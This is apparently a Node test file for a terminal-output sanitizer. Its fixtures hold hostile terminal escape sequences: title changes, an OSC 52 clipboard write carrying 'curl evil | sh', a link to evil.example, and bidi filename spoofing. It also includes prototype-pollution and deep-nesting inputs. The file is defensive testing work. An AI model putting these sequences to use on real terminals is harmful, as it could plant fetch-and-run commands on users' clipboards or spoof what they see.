// The one sanitizer for text from outside (gateway answers, channel API errors, log lines, ssh stderr): what it
// replaces and with what, and, with a terminal emulator (xterm.js, headless) as the judge, that nothing it returns
// retitles, writes the clipboard, rings, moves the cursor or recolours, where the raw text does all of that.
import assert from 'node:assert/strict';
import {describe, test} from 'node:test';
import xterm from '@xterm/headless';
import {terminalSafe, terminalSafeStrings} from '../source/cli-output/terminal-safe.js';

const esc = '\u001B';
const bel = '\u0007';
const st = `${esc}\\`;

/** One of each: the attacks seen (OSC 0, OSC 52, SGR) and the rest of the families a terminal obeys. */
const hostile = {
	osc0Bel: `${esc}]0;pwned title${bel}`,
	osc2St: `${esc}]2;pwned title${st}`,
	osc52: `${esc}]52;c;${Buffer.from('curl evil | sh').toString('base64')}${bel}`,
	osc8Link: `${esc}]8;;https://evil.example/${st}click${esc}]8;;${st}`,
	sgr: `${esc}[5;31;48;5;196mblinking red${esc}[0m`,
	cursorMoves: `${esc}[2J${esc}[H${esc}[10;10H${esc}[3A`,
	dcs: `${esc}P1$r0m${st}`,
	apc: `${esc}_apc payload${st}`,
	pm: `${esc}^pm payload${st}`,
	sos: `${esc}Xsos payload${st}`,
	loneEsc: `tail${esc}`,
	twoByteEsc: `${esc}c${esc}7${esc}8`,
	c1Csi: '\u009B2J\u009B31mred',
	c1Osc: '\u009D0;c1 title\u009C',
	bidi: 'invoice\u202Efdp.exe\u202C \u2066isolated\u2069 \u200Fmark',
	invisible: 'zero\u200Bwidth \uFEFFbom \u2060joiner',
	bell: `ding${bel}`,
	carriageReturn: 'fake ok\rREAL',
	backspace: 'abc\b\b\bxyz',
};

type Seen = {titles: string[]; clipboard: string[]; bells: number; cursor: {x: number; y: number}; line: string; styled: boolean; links: number};

async function throughTerminal(text: string): Promise<Seen> {
	const terminal = new xterm.Terminal({cols: 200, rows: 20, allowProposedApi: true});
	const seen: Seen = {titles: [], clipboard: [], bells: 0, cursor: {x: 0, y: 0}, line: '', styled: false, links: 0};
	terminal.onTitleChange((title) => seen.titles.push(title));
	terminal.onBell(() => seen.bells++);
	terminal.parser.registerOscHandler(52, (data) => {
		seen.clipboard.push(data);
		return true;
	});
	terminal.parser.registerOscHandler(8, () => {
		seen.links++;
		return false;
	});
	await new Promise<void>((resolve) => {
		terminal.write(text, resolve);
	});
	const buffer = terminal.buffer.active;
	seen.cursor = {x: buffer.cursorX, y: buffer.cursorY};
	seen.line = buffer.getLine(0)?.translateToString(true) ?? '';
	const cell = buffer.getNullCell();
	for (let x = 0; x < seen.line.length; x++) {
		buffer.getLine(0)?.getCell(x, cell);
		if (!cell.isFgDefault() || !cell.isBgDefault() || cell.isBlink() || cell.isInverse() || cell.isInvisible()) {
			seen.styled = true;
		}
	}

	terminal.dispose();
	return seen;
}

describe('terminalSafe', () => {
	test('the raw attacks do act on a terminal (the judge works)', async () => {
		assert.deepEqual((await throughTerminal(hostile.osc0Bel)).titles, ['pwned title']);
		assert.deepEqual((await throughTerminal(hostile.c1Osc)).titles, ['c1 title']);
		assert.equal((await throughTerminal(hostile.osc52)).clipboard.length, 1);
		assert.equal((await throughTerminal(hostile.osc8Link)).links, 2);
		assert.equal((await throughTerminal(hostile.sgr)).styled, true);
		assert.equal((await throughTerminal(hostile.c1Csi)).styled, true);
		assert.equal((await throughTerminal(hostile.bell)).bells, 1);
		assert.deepEqual((await throughTerminal(hostile.cursorMoves)).cursor, {x: 9, y: 6});
		assert.equal((await throughTerminal(hostile.carriageReturn)).line, 'REAL ok');
	});

	for (const [name, text] of Object.entries(hostile)) {
		test(`${name}: shown on one row as written, inert`, async () => {
			const safe = terminalSafe(text);
			const seen = await throughTerminal(safe);
			assert.deepEqual(seen.titles, []);
			assert.deepEqual(seen.clipboard, []);
			assert.equal(seen.bells, 0);
			assert.equal(seen.links, 0);
			assert.equal(seen.styled, false);
			assert.equal(seen.cursor.y, 0);
			assert.equal(seen.line, safe, 'every character of the safe text is on the screen, where it was put');
			assert.match(safe, /\^\[|\^G|\^H|\^M|\uFFFD/, 'a visible stand-in marks what was there');
		});
	}

	test('stand-ins: caret notation for C0 and DEL, U+FFFD for C1, bidi and invisible characters', () => {
		assert.equal(terminalSafe(hostile.osc0Bel), '^[]0;pwned title^G');
		assert.equal(terminalSafe(hostile.sgr), '^[[5;31;48;5;196mblinking red^[[0m');
		assert.equal(terminalSafe('nul\u0000 del\u007F us\u001F'), 'nul^@ del^? us^_');
		assert.equal(terminalSafe('\u009B2J \u009D0;t\u009C \u0085'), '\uFFFD2J \uFFFD0;t\uFFFD \uFFFD');
		assert.equal(terminalSafe('a\u202Eb\u2066c\u2069d\u061Ce\u200Ef'), 'a\uFFFDb\uFFFDc\uFFFDd\uFFFDe\uFFFDf');
		assert.equal(terminalSafe('lone \uD800 surrogate'), 'lone \uFFFD surrogate');
		assert.equal(terminalSafe('line\u2028sep'), 'line\uFFFDsep');
	});

	test('one line by default (a line feed shows as ^J, a tab is two spaces); multiline keeps both', () => {
		assert.equal(terminalSafe('a\nb\tc\r'), 'a^Jb  c^M');
		assert.equal(terminalSafe('a\nb\tc\r', {multiline: true}), 'a\nb\tc^M');
		assert.equal(terminalSafe(`x${esc}[2Ky\n`, {multiline: true}), 'x^[[2Ky\n');
	});

	test('leaves ordinary text alone: the same string, wide characters, emoji sequences with ZWJ', () => {
		for (const text of ['gateway listening on ws://127.0.0.1:18789 — ready', '日本語 한국어 עברית العربية', '👨‍👩‍👧 👍🏽 🏴󠁧󠁢󠁳󠁣󠁴󠁿', 'e\u0301tude', '']) {
			assert.equal(terminalSafe(text), text);
		}
	});

	test('is idempotent', () => {
		for (const text of Object.values(hostile)) {
			const once = terminalSafe(text);
			assert.equal(terminalSafe(once), once);
		}
	});
});

describe('terminalSafeStrings', () => {
	test('reaches every string: values, array items and keys, at depth', () => {
		const value = {[`key${esc}]0;t${bel}`]: [{deep: {er: `v${esc}[2J`}}, 7, null, true], plain: 'ok'};
		assert.deepEqual(terminalSafeStrings(value), {'key^[]0;t^G': [{deep: {er: 'v^[[2J'}}, 7, null, true], plain: 'ok'});
	});

	test('returns the same objects when nothing changes, and copies only what changed', () => {
		const clean = {a: 'x', list: [{b: 'y'}], n: 1};
		assert.equal(terminalSafeStrings(clean), clean);
		const mixed = {clean: {a: 'x'}, dirty: {a: `x${bel}`}};
		const safe = terminalSafeStrings(mixed);
		assert.notEqual(safe, mixed);
		assert.equal(safe.clean, mixed.clean);
		assert.deepEqual(safe.dirty, {a: 'x^G'});
	});

	test('a key named __proto__ stays an own key; the prototype is untouched', () => {
		const parsed = JSON.parse(`{"__proto__": {"polluted": "yes"}, "x": "${'\\u001b'}"}`) as Record<string, unknown>;
		const safe = terminalSafeStrings(parsed);
		assert.equal(Object.getPrototypeOf(safe), Object.prototype);
		assert.ok(Object.hasOwn(safe, '__proto__'));
		assert.equal((safe as {polluted?: string}).polluted, undefined);
		assert.equal(({} as {polluted?: string}).polluted, undefined);
	});

	test('a peer nesting JSON 100 000 levels deep does not overflow the stack: past 32 levels the value is left out', () => {
		const deep = JSON.parse(`${'{"x":'.repeat(100_000)}"end"${'}'.repeat(100_000)}`) as unknown;
		const safe = terminalSafeStrings(deep);
		let depth = 0;
		for (let node = safe as {x?: unknown} | undefined; node && typeof node === 'object'; node = node.x as {x?: unknown}) {
			depth++;
		}

		assert.equal(depth, 32);
	});
});
